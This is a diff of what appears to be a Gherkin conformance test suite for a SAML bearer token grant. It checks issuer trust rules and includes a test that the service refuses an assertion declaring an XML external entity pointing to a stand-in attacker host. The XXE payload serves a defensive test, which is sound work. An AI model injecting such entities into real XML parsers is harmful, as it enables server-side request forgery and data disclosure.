@@ -5,20 +5,6 @@ Feature: Only the issuer of an assertion can have made it
   Source: authorization-token-service, "POST /oauth/token", grant rule 4, and "Client configuration
   attributes referred to"; RFC 7522, sections 3 and 6; supplement, section 3.9.
 
-  Scenario: The client requests a token
-    Given a confidential client that may use the "saml2-bearer" grant
-    When the client requests a token
-    Then it holds that:
-      | requirement                                                                                                                                     | sentence                                      |
-      | TOKEN-SAML-ASSERTION-001 TOKEN-SAML-ENDPOINT-001 TOKEN-SAML-RECIPIENT-001 TOKEN-SCOPE-SAML-004 TOKEN-SAML-TRUST-001 CLIENT-CONFIG-PROVIDERS-001 | the client receives an access token           |
-      | TOKEN-SAML-ASSERTION-001                                                                                                                        | the access token names the user               |
-      | TOKEN-REQUEST-GRANT-006                                                                                                                         | the request is granted                        |
-      | TOKEN-RESPONSE-SCOPE-023                                                                                                                        | the token lacks the scope "assay.group-only"  |
-      | TOKEN-RESPONSE-SCOPE-031                                                                                                                        | the token lacks the scope "assay.client-only" |
-    And the access token has:
-      | requirement               | member    | form                  |
-      | SUPPLEMENT-SAMLBEARER-003 | user_name | "{{ user.userName }}" |
-
   Scenario: The client requests a token with an assertion of an issuer that the target does not know
     Given a confidential client that may use the "saml2-bearer" grant
     When the client requests a token with "assertion.Issuer" as "https://nobody.assay.example"
@@ -125,9 +111,9 @@ Feature: Only the issuer of an assertion can have made it
       Then the token request is refused
 
       Examples:
-        | case                            | providers                                                                                |
-        | another trusted provider        | ["{{ another_provider.origin_key }}"]                                                    |
-        | two others                      | ["{{ another_provider.origin_key }}", "assay-nowhere"]                                   |
+        | case                            | providers                                                                      |
+        | another trusted provider        | ["{{ another_provider.origin_key }}"]                                          |
+        | two others                      | ["{{ another_provider.origin_key }}", "assay-nowhere"]                         |
         | two with a part of the same key | ["{{ provider.origin_key }}-more", "{{ provider.origin_key \| slice: 0, 8 }}"] |
 
   @req:RFC7522-ASSERTION-011 @standard
@@ -143,9 +129,11 @@ Feature: Only the issuer of an assertion can have made it
 
     Scenario: An external entity is declared
       Given a confidential client that may use the "saml2-bearer" grant
-      When the client requests a token with:
-        | part      | value                                                                                                                                     |
-        | assertion | {{ own \| base64url_decode \| prepend: '<!DOCTYPE saml [<!ENTITY assay SYSTEM "https://attacker.assay.example/entity">]>' \| base64url }} |
+      When the client requests a token with the SAML document:
+        """
+        <!DOCTYPE saml [<!ENTITY assay SYSTEM "https://attacker.assay.example/entity">]>
+        {{ assertion.signed }}
+        """
       Then the token request is refused
 
   @req:SUPPLEMENT-SAMLBEARER-015 @compatible
